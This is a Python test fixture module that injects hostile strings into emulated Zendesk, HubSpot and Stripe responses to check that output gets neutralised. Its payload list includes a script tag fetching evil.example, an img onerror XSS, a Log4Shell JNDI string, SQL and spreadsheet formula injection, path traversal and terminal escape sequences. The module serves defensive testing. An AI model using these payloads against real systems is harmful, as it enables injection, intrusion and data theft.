"""Texts that strangers may write into a ticket, planted into what the emulators answer, and what must not come of them.

Every link among them leads to evil.example, every mention is of somebody, and each has a number of its own.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest
from markdown_it import MarkdownIt

from flows.core.neutralise import JOINER
from flows.sandbox import stripe as stripe_emulator
from flows.sandbox.hubspot import Hubspot
from flows.sandbox.zendesk import Zendesk

Json = dict[str, Any]

HOSTILE = (
    # mentions
    "<!channel>", "<!here|here>", "<!everyone>", "<@U0000001>", "<#C0ALERTS>", "<!subteam^S1>", "@here", "@channel",
    "@everyone", "&lt;!channel&gt;",
    # links and images
    "<https://evil.example|click here>", "https://evil.example/a?b=c", "www.evil.example", "evil.example",
    "[click](https://evil.example)", "[click](javascript:alert(1))", "![x](https://evil.example/x.png)",
    "[a]: https://evil.example 'b'", "[![x](https://evil.example/x.png)](https://evil.example)",
    "<https://evil.example>", "mailto:a@evil.example", "linear://evil.example", "data:text/html,<b>evil.example</b>",
    # HTML
    "<script>fetch('https://evil.example')</script>", "<img src=https://evil.example/x onerror=alert(1)>",
    "<a href='https://evil.example'>click</a>", "<iframe src='//evil.example'></iframe>", "<!-- comment -->",
    "<style>*{display:none}</style>", "&#60;b&#62;",
    # formats
    "**bold** _it_ ~~gone~~ `code`", "```\nfence\n```", "# heading", "\n\n# heading", "> quote", "- item", "1. item",
    "\n---\n", "| a | b |\n| --- | --- |\n| 1 | 2 |", "+++ folded", "$$x$$ $x$", "[^1] ~~~", ":tada: :red[red] :+1:",
    "ENG-1 LIN-99",
    # terminals
    "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "\x1b]0;title\x07", "\x1b[2J\x1b[H",
    "\x9b31m", "\x07\x08\x08\x08", "\rover", "[link=https://evil.example]click[/link]", "[bold red]loud[/]", "[/]",
    # what cannot be seen
    "\u202egnp.exe", "\u2066\u2069\u200b\u200d", "\ufeff\u00ad", "\u2028line\u2029paragraph", "a\nb\r\nc",
    # other languages of machines
    "{{ 7 * 7 }}", "{% raw %}", "${jndi:ldap://evil.example}", "'; drop table marts.fct_tickets; --", "\" or 1=1 --",
    "=cmd|'/c calc'!A1", "+HYPERLINK(\"https://evil.example\")", "@SUM(1+1)", "%s %d %(x)s", "../../etc/passwd",
    "2026-01-01 00:00:00 ERROR all is lost",
)  # fmt: skip
PERSONAL = (
    "zephyr.canary@mail-canary.example", "+44 20 7946 55331", "4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00",
    "203.0.113.77", "2001:db8:85a3::8a2e:370:7334",
)  # fmt: skip
_TOLD = "Write to {}, call {}, my card is {}, my IBAN {}, I come from {} and {}.".format(*PERSONAL)
PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_MENTIONS = re.compile(r"[@#](?:here|channel|everyone|C0ALERTS|SUM)\b")
_EVIL = re.compile(r"evil\.example|(?:https?|linear|ldap)://", re.IGNORECASE)


def install(patch: pytest.MonkeyPatch) -> None:
    """Make Zendesk, HubSpot and Stripe answer with such texts in every subject, body, name and tag."""
    zendesk, hubspot, stripe = Zendesk._response, Hubspot._answer, stripe_emulator._response

    def zendesk_answers(emulator: Zendesk, body: Json, status: int, headers: dict[str, str]) -> Any:
        return zendesk(emulator, _zendesk(json.loads(json.dumps(body))), status, headers)

    def hubspot_answers(emulator: Hubspot, method: str, path: str, call: Any) -> tuple[int, Json]:
        status, body = hubspot(emulator, method, path, call)
        body = json.loads(json.dumps(body))
        for item in body.get("results", []):
            for key in ("name", "firstname", "lastname", "dealname", "industry", "tier"):
                if isinstance(item, dict) and isinstance(item.get("properties"), dict) and item["properties"].get(key):
                    item["properties"][key] += f" {text_of(item.get('id', 0))}"
        return status, body

    def stripe_answers(body: Json, status: int, headers: dict[str, str]) -> Any:
        for item in body.get("data", []) if isinstance(body.get("data"), list) else []:
            for key in ("name", "description", "nickname"):
                if item.get("object") in ("customer", "product", "price") and item.get(key):
                    item[key] = f"{item[key]} {text_of(len(item['id']) + ord(item['id'][-1]))}"
        return stripe(body, status, headers)

    patch.setattr(Zendesk, "_response", zendesk_answers)
    patch.setattr(Hubspot, "_answer", hubspot_answers)
    patch.setattr(stripe_emulator, "_response", stripe_answers)


def text_of(number: Any) -> str:
    """Each record's text by its id: the same one in every answer."""
    return HOSTILE[int(number) % len(HOSTILE)]


def _zendesk(body: Json) -> Json:
    for ticket in body.get("tickets", []):
        evil = text_of(ticket["id"])
        ticket["subject"] = f"{ticket['subject']} {evil} {PERSONAL[0]} {PERSONAL[1]}"
        ticket["description"] = f"{evil} {ticket['description']}\n{evil}\n{_TOLD}"
        ticket["tags"] = [*ticket.get("tags", []), evil]
    for event in body.get("ticket_events", []):
        for child in event["child_events"]:
            if child.get("event_type") == "Comment":
                evil = text_of(event["ticket_id"])
                child["body"] = f"{evil} {child['body']}\n{evil}\n{_TOLD}"
                child["html_body"] = f"<p>{evil}</p>{child.get('html_body', '')}<p>{_TOLD}</p>"
                name = f"{PERSONAL[0]} {PERSONAL[2]} {evil}.png"
                child["attachments"] = [{"id": 1, "file_name": name, "content_url": f"https://evil.example/{name}"}]
    for kind in ("users", "organizations"):
        for item in body.get(kind, []):
            item["name"] = f"{item['name']} {text_of(item['id'])}"
    return body


def hidden(text: str) -> list[str]:
    """Characters that a terminal obeys or a reader cannot see."""
    odd = {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co") and c not in f"\n\t{JOINER}"}
    return sorted(map(hex, map(ord, odd)))


def in_markdown(text: str, ours: tuple[str, ...]) -> list[str]:
    """What Markdown would make of foreign text beyond words. `ours`: beginnings of addresses that may be linked to."""
    tokens = PARSER.parse(text)
    inline = [child for token in tokens for child in token.children or []]
    found = [t.content for t in tokens if t.type in ("html_block", "fence", "code_block", "hr")]
    found += [c.content for c in inline if c.type in ("image", "html_inline", "s_open")]
    targets = [str(c.attrs["href"]) for c in inline if c.type == "link_open"]
    found += [target for target in targets if not target.startswith(ours)]
    words = " ".join(c.content for c in inline if c.type in ("text", "text_special"))
    return [*found, *in_words(words, ours), *hidden(text)]


def in_slack(text: str, ours: tuple[str, ...]) -> list[str]:
    """What Slack would make of it: mentions and links; formats are left to tests/push."""
    found = [target for target in re.findall(r"<([^|>]+)", text) if not target.startswith(ours)]
    return [*found, *in_words(re.sub(r"<[^|>]+\|", "", text), ours), *hidden(text)]


def in_words(text: str, ours: tuple[str, ...]) -> list[str]:
    """Mentions, and addresses that are recognised in plain text."""
    for address in ours:
        text = text.replace(address, "")
    return [*_MENTIONS.findall(text), *_EVIL.findall(text)]


def slack_texts(value: Any) -> Iterator[tuple[str, str]]:
    """The kind and the text of every text object in Slack's blocks."""
    if isinstance(value, dict):
        if isinstance(value.get("text"), str):
            yield value["type"], value["text"]
        for item in value.values():
            yield from slack_texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from slack_texts(item)
